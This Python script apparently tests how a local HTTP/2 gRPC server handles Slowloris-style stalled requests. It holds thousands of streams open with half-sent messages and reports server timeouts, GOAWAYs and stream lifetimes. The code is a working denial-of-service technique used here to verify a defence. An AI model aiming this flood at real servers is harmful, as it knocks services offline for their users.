"""Slowloris on call slots: requests that never finish arriving.

Each stream sends HEADERS, then 5 bytes of a 10-byte request message (the
gRPC frame header announcing 10 bytes), and goes silent, its stream left
open. The client is otherwise attentive: it reads, acknowledges SETTINGS
and PING, and every --tick seconds opens new streams to replace those the
server ended, keeping --streams open on each of --connections connections
for --hold seconds.

Reports how the server ended the streams, and the longest any stream was
left waiting (ended or not): the server ends a one-message request that has
not arrived within its --request-timeout.

Usage: slowloris.py --port PORT [--connections 17] [--streams 1000]
                    [--hold 10] [--tick 0.5] [--ready FILE]
"""

import argparse
import asyncio
import time

import h2raw

PARTIAL = b"\x00\x00\x00\x00\x0a"  # uncompressed, 10 bytes to come


async def attack(args):
    block = h2raw.request_block(f"127.0.0.1:{args.port}")
    opening = h2raw.client_opening([(h2raw.SETTINGS_ENABLE_PUSH, 0)])
    conns = [h2raw.Attentive() for _ in range(args.connections)]
    await asyncio.gather(*(c.connect(args.port, opening) for c in conns))
    readers = [asyncio.create_task(c.read_loop()) for c in conns]
    opened_at = [dict() for _ in conns]  # stream id -> time sent
    next_id = [1] * len(conns)
    lifetimes = []
    opened = [0]

    def top_up(i):
        conn = conns[i]
        if conn.closed_at is not None:
            return
        live = [sid for sid in opened_at[i] if sid not in conn.ended]
        for sid in [sid for sid in opened_at[i] if sid in conn.ended]:
            lifetimes.append(conn.ended[sid][0] - opened_at[i].pop(sid))
        need = args.streams - len(live)
        if need <= 0:
            return
        now = time.monotonic()
        chunks = []
        for _ in range(need):
            sid = next_id[i]
            next_id[i] += 2
            opened_at[i][sid] = now
            chunks.append(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block))
            chunks.append(h2raw.frame(h2raw.DATA, 0, sid, PARTIAL))
        conn.write(b"".join(chunks))
        opened[0] += need

    started = time.monotonic()
    for i in range(len(conns)):
        top_up(i)
    await asyncio.gather(*(c.drain() for c in conns))
    h2raw.mark_ready(args.ready)
    ready_at = time.monotonic()
    while time.monotonic() - ready_at < args.hold:
        await asyncio.sleep(args.tick)
        for i in range(len(conns)):
            top_up(i)
        await asyncio.gather(*(c.drain() for c in conns), return_exceptions=True)
    now = time.monotonic()
    ended = {}
    for i, conn in enumerate(conns):
        for sid in [sid for sid in opened_at[i] if sid in conn.ended]:
            lifetimes.append(conn.ended[sid][0] - opened_at[i].pop(sid))
        for _, how, _ in conn.ended.values():
            ended[how] = ended.get(how, 0) + 1
    waiting = [now - t for per in opened_at for t in per.values()]
    goaways = sum(1 for c in conns if c.goaway)
    closed = sum(1 for c in conns if c.closed_at is not None)
    for c in conns:
        c.close()
    for r in readers:
        r.cancel()
    await asyncio.gather(*readers, return_exceptions=True)
    return {
        "connections": len(conns),
        "streams_opened": opened[0],
        "seconds": round(now - started, 3),
        "streams_ended_by_server": ended,
        "longest_lifetime_ended_s": round(max(lifetimes), 3) if lifetimes else None,
        "median_lifetime_ended_s": round(h2raw.percentile(lifetimes, 0.5), 3) if lifetimes else None,
        "still_open_at_end": len(waiting),
        "longest_waiting_open_s": round(max(waiting), 3) if waiting else None,
        "goaways": goaways,
        "connections_closed_by_server": closed,
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=17)
    parser.add_argument("--streams", type=int, default=1000, help="kept open per connection")
    parser.add_argument("--hold", type=float, default=10.0)
    parser.add_argument("--tick", type=float, default=0.5)
    parser.add_argument("--ready")
    args = parser.parse_args()
    h2raw.raise_nofile()
    h2raw.report(asyncio.run(attack(args)))


if __name__ == "__main__":
    main()
